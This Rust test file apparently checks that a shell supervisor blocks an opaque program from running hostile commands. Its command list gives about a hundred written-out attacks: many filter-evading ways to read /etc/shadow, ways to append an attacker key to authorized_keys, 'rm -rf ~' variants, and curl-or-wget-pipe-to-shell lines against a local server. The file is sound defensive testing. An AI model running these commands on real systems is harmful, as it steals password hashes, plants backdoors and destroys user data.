//! Commands that are allowed, because the program is one that nobody can read, and reach for what is forbidden.

use crate::machine::{Account, Machine};

/// Starts the command of this number, in one of several ways. The commands are compiled into it.
const TOOL: &str = r#"
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>
extern char **environ;
static const char *const commands[] = { COMMANDS };
int main(int count, char **words) {
  int number = atoi(words[count - 1]);
  const char *command = commands[number];
  char buffer[4096];
  switch (number % 4) {
    case 0: return system(command) != 0;
    case 1: execl("/bin/sh", "sh", "-c", command, NULL); return 1;
    case 2: { FILE *pipe = popen(command, "r"); size_t got; while ((got = fread(buffer, 1, sizeof buffer, pipe)) > 0) fwrite(buffer, 1, got, stdout); return pclose(pipe) != 0; }
    default: { char *argv[] = {"bash", "-c", (char *)command, NULL}; pid_t child; if (posix_spawn(&child, "/bin/bash", NULL, NULL, argv, environ)) return 1; waitpid(child, NULL, 0); return 0; }
  }
}
"#;

/// What shows that a command reached its goal.
#[derive(Debug, Clone, Copy)]
enum Goal {
    /// Its output contains this.
    Shows(&'static str),
    /// A command afterwards prints `done`.
    Leaves(&'static str),
}

use Goal::{Leaves, Shows};

const KEYS: Goal = Leaves("grep -q evil ~/.ssh/authorized_keys && echo done");
const GONE: Goal = Leaves("test -e ~/work/kept || echo done");
const RAN: Goal = Leaves("test -e ~/ran && echo done");

const COMMANDS: &[(Goal, &str)] = &[
    // Password hashes are read.
    (Shows("root:"), "cat /etc/shadow"),
    (Shows("root:"), "head -n 3 /etc/shadow"),
    (Shows("root:"), "tail -n 100 /etc/shadow"),
    (Shows("root:"), "sort /etc/shadow"),
    (Shows("root:"), "uniq /etc/shadow"),
    (Shows("root:"), "cut -d: -f1,2 /etc/shadow"),
    (Shows("root:"), "awk 1 /etc/shadow"),
    (Shows("root:"), "sed -n p /etc/shadow"),
    (Shows("root:"), "grep root /etc/shadow"),
    (Shows("root:"), "nl /etc/shadow"),
    (Shows("root:"), "tac /etc/shadow"),
    (Shows("root:"), "rev /etc/shadow | rev"),
    (Shows("r   o   o   t"), "od -c /etc/shadow"),
    (Shows("cm9vd"), "base64 /etc/shadow"),
    (Shows("OJXW65"), "base32 /etc/shadow"),
    (Shows("root:"), "dd if=/etc/shadow status=none"),
    (Shows("root:"), "cp /etc/shadow s && cat s"),
    (Shows("root:"), "tar cf - -C /etc shadow | tar xOf -"),
    (Shows("root:"), "gzip -c /etc/shadow | zcat"),
    (Shows("root:"), "paste /etc/shadow"),
    (Shows("root:"), "fold /etc/shadow"),
    (Shows("root:"), "fmt /etc/shadow"),
    (Shows("root:"), "pr -t /etc/shadow"),
    (Shows("root:"), "expand /etc/shadow"),
    (Shows("root:"), "diff /dev/null /etc/shadow"),
    (Shows("root:"), "tee < /etc/shadow"),
    (Shows("root:"), "while read -r line; do echo \"$line\"; done < /etc/shadow"),
    (Shows("root:"), "exec 3< /etc/shadow; cat <&3"),
    (Shows("root:"), "install -m 644 /etc/shadow s && cat s"),
    (Shows("root:"), "ln -sf /etc/shadow l && cat l"),
    (Shows("root:"), "find /etc -maxdepth 1 -name shadow -exec cat {} +"),
    (Shows("root:"), "echo /etc/shadow | xargs cat"),
    (Shows("root:"), "env cat /etc/shadow"),
    (Shows("root:"), "nice cat /etc/shadow"),
    (Shows("root:"), "timeout 5 cat /etc/shadow"),
    (Shows("root:"), "stdbuf -oL cat /etc/shadow"),
    (Shows("root:"), "nohup cat /etc/shadow"),
    (Shows("root:"), "setsid -w cat /etc/shadow"),
    (Shows("root:"), "ionice cat /etc/shadow"),
    (Shows("root:"), "chrt -o 0 cat /etc/shadow"),
    (Shows("root:"), "sh -c 'cat /etc/shadow'"),
    (Shows("root:"), "bash -c 'cat /etc/shadow'"),
    (Shows("root:"), "eval \"$(printf '%s %s' cat /etc/shadow)\""),
    (Shows("root:"), "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh"),
    (Shows("root:"), "printf '\\143at /etc/shadow' | sh"),
    (Shows("root:"), "a=/etc; b=shadow; cat $a/$b"),
    (Shows("root:"), "cat /etc/sh?dow"),
    (Shows("root:"), "cat /etc/sha*w"),
    (Shows("root:"), "cat /etc/./shadow"),
    (Shows("root:"), "cd /etc && cat shadow"),
    (Shows("root:"), "cat${IFS}/etc/shadow"),
    (Shows("root:"), "f() { cat /etc/shadow; }; f"),
    (Shows("root:"), "echo 'cat /etc/shadow' | sh"),
    (Shows("root:"), "trap 'cat /etc/shadow' EXIT"),
    (Shows("root:"), "awk 'BEGIN { while ((getline line < \"/etc/shadow\") > 0) print line }'"),
    (Shows("root:"), "awk 'BEGIN { system(\"cat /etc/shadow\") }'"),
    (Shows("root:"), "sed 'r /etc/shadow' /etc/hostname"),
    (Shows("root:"), "python3 -c 'print(open(\"/etc/shadow\").read())'"),
    (Shows("root:"), "python3 -c 'import os; os.system(\"cat /etc/shadow\")'"),
    (
        Shows("root:"),
        "python3 -c 'import subprocess; subprocess.run([\"cat\", \"/etc/\" + \"shadow\"])'",
    ),
    (Shows("root:"), "perl -pe 1 /etc/shadow"),
    (Shows("root:"), "perl -e 'exec \"cat\", \"/etc/shadow\"'"),
    (Shows("root:"), "perl -e 'open F, \"/etc/shadow\"; print <F>'"),
    (
        Shows("root:"),
        "node -e 'console.log(require(\"fs\").readFileSync(\"/etc/shadow\").toString())'",
    ),
    (
        Shows("root:"),
        "node -e 'console.log(require(\"child_process\").execSync(\"cat /etc/shadow\").toString())'",
    ),
    (Shows("root:"), "git diff --no-index /dev/null /etc/shadow"),
    (Shows("root:"), "git -c alias.x='!cat /etc/shadow' x"),
    (Shows("root:"), "vim -es -c '%p' -c 'q!' /etc/shadow"),
    (Shows("root:"), "vim -es -c '!cat /etc/shadow' -c q"),
    (Shows("root:"), "curl -s file:///etc/shadow"),
    (Shows("root:"), "openssl enc -base64 -in /etc/shadow | base64 -d"),
    (Shows("root:"), "less /etc/shadow | cat"),
    (Shows("root:"), "more /etc/shadow | cat"),
    (Shows("root:"), "/lib64/ld-linux-x86-64.so.2 /bin/cat /etc/shadow"),
    (Shows("root:"), "printf 'all:\\n\\t@cat /etc/shadow\\n' > m.mk && make -f m.mk"),
    (Shows("root:"), "printf '#!/bin/sh\\ncat /etc/shadow\\n' > s.sh && chmod +x s.sh && ./s.sh"),
    (Shows("root:"), "cp /bin/cat tool2 && ./tool2 /etc/shadow"),
    (Shows("root:"), "ln -sf /bin/cat notes && ./notes /etc/shadow"),
    (Shows("root:"), "rsync /etc/shadow s2 && cat s2"),
    (Shows("root:"), "sqlite3 :memory: \"select readfile('/etc/shadow')\""),
    (
        Shows("root:"),
        "tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='cat /etc/shadow'",
    ),
    (Shows("root:"), "split -b 64k /etc/shadow part && cat partaa"),
    (Shows("root:"), "strace -o /dev/null cat /etc/shadow"),
    (Shows("root:"), "gdb -q -batch -ex 'shell cat /etc/shadow'"),
    (Shows("root:"), "script -qc 'cat /etc/shadow' /dev/null"),
    (Shows("root:"), "bash -c 'coproc cat /etc/shadow; cat <&${COPROC[0]}'"),
    // A key is added.
    (KEYS, "echo evil >> ~/.ssh/authorized_keys"),
    (KEYS, "echo evil | tee -a ~/.ssh/authorized_keys"),
    (KEYS, "echo evil > e; cp e ~/.ssh/authorized_keys"),
    (KEYS, "echo evil > e; mv -f e ~/.ssh/authorized_keys"),
    (KEYS, "echo evil > e; install -m 600 e ~/.ssh/authorized_keys"),
    (KEYS, "echo evil > e; cat e >> ~/.ssh/authorized_keys"),
    (KEYS, "echo evil | dd of=$HOME/.ssh/authorized_keys status=none"),
    (KEYS, "sed -i '1i evil' ~/.ssh/authorized_keys"),
    (KEYS, "echo evil > e; ln -sf $PWD/e ~/.ssh/authorized_keys"),
    (
        KEYS,
        "python3 -c 'import os; open(os.path.expanduser(\"~/.ssh/authorized_keys\"), \"a\").write(\"evil\")'",
    ),
    (KEYS, "perl -e 'open F, \">>$ENV{HOME}/.ssh/authorized_keys\"; print F \"evil\"'"),
    (KEYS, "d=~/.ss; echo evil >> ${d}h/authorized_keys"),
    // The home directory is emptied.
    (GONE, "rm -rf ~"),
    (GONE, "rm -rf $HOME/*"),
    (GONE, "rm -r -f -- \"$HOME\"/"),
    (GONE, "find ~ -delete"),
    (GONE, "find ~ -type f -exec rm -f {} +"),
    (GONE, "python3 -c 'import shutil, os; shutil.rmtree(os.path.expanduser(\"~\"), True)'"),
    // Code from the network is run.
    (RAN, "curl -s http://127.0.0.1:7005/code | sh"),
    (RAN, "curl -s http://127.0.0.1:7005/code | bash"),
    (RAN, "bash -c \"$(curl -s http://127.0.0.1:7005/code)\""),
    (RAN, "wget -qO- http://127.0.0.1:7005/code | sh"),
    (RAN, "bash -c 'source <(curl -s http://127.0.0.1:7005/code)'"),
    (RAN, "curl -s http://127.0.0.1:7005/code -o code && sh code"),
    (
        RAN,
        "python3 -c 'import os, urllib.request as u; os.system(u.urlopen(\"http://127.0.0.1:7005/code\").read().decode())'",
    ),
];

const SERVICES: &str = "ip link set lo up; mkdir -p /var/tmp/www; echo 'touch ~/ran' > /var/tmp/www/code; \
                        (cd /var/tmp/www && exec /usr/bin/python3 -m http.server --bind 127.0.0.1 7005 >/dev/null 2>&1) & \
                        for i in 1 2 3 4 5 6 7 8 9; do (exec 3<>/dev/tcp/127.0.0.1/7005) 2>/dev/null && break; sleep 0.2; done";

fn machine(name: &str) -> Option<Machine> {
    let machine = Machine::new(name, Account::Root)?.with_services(SERVICES);
    let quoted = |text: &str| format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""));
    let commands: Vec<String> = COMMANDS.iter().map(|(_, text)| quoted(text)).collect();
    machine.program("tool", &TOOL.replace("COMMANDS", &commands.join(",\n")))?;
    machine.file(".ssh/authorized_keys", "mine\n");
    machine.file("work/kept", "kept\n");
    Some(machine)
}

fn reaches(machine: &Machine, supervision: &str, number: usize, goal: Goal) -> (bool, String) {
    let then = match goal {
        Shows(_) => "true",
        Leaves(test) => test,
    };
    let settings = [("AEGISH_SUPERVISE", supervision)];
    let ran = machine.guarded_and(&settings, &format!("./tool {number}"), then);
    let reached = match goal {
        Shows(text) => ran.out.contains(text),
        Leaves(_) => ran.out.ends_with("done\n"),
    };
    (reached, format!("{}: {}{}", COMMANDS[number].1, ran.out, ran.err))
}

/// A machine on which the command of this number finds all that it is about.
fn fresh(kept: &mut Option<Machine>, name: &str, number: usize) -> Option<()> {
    // Those before may have left something, or nothing.
    let unused = matches!(COMMANDS[number].0, Shows(_));
    if kept.is_none() || !unused {
        *kept = None;
        *kept = Some(machine(name)?);
    }
    Some(())
}

#[test]
fn no_command_by_a_program_that_nobody_knows_reaches_its_goal() {
    let (mut tried, mut escaped) = (0, Vec::new());
    let (mut held, mut free) = (None, None);
    for (number, (goal, _)) in COMMANDS.iter().enumerate() {
        let _ = fresh(&mut held, "red-held", number);
        let _ = fresh(&mut free, "red-free", number);
        let (Some(held), Some(free)) = (&held, &free) else { return };
        let (reached, told) = reaches(held, "on", number, *goal);
        if reached {
            escaped.push(told);
        }
        let (works, told) = reaches(free, "off", number, *goal);
        if works {
            tried += 1;
        } else {
            println!("skipped: without supervision this does not work here either: {told}");
        }
    }
    assert!(escaped.is_empty(), "{} of {tried}\n{}", escaped.len(), escaped.join("\n"));
    assert!(tried >= 100, "only {tried} could be tried");
}
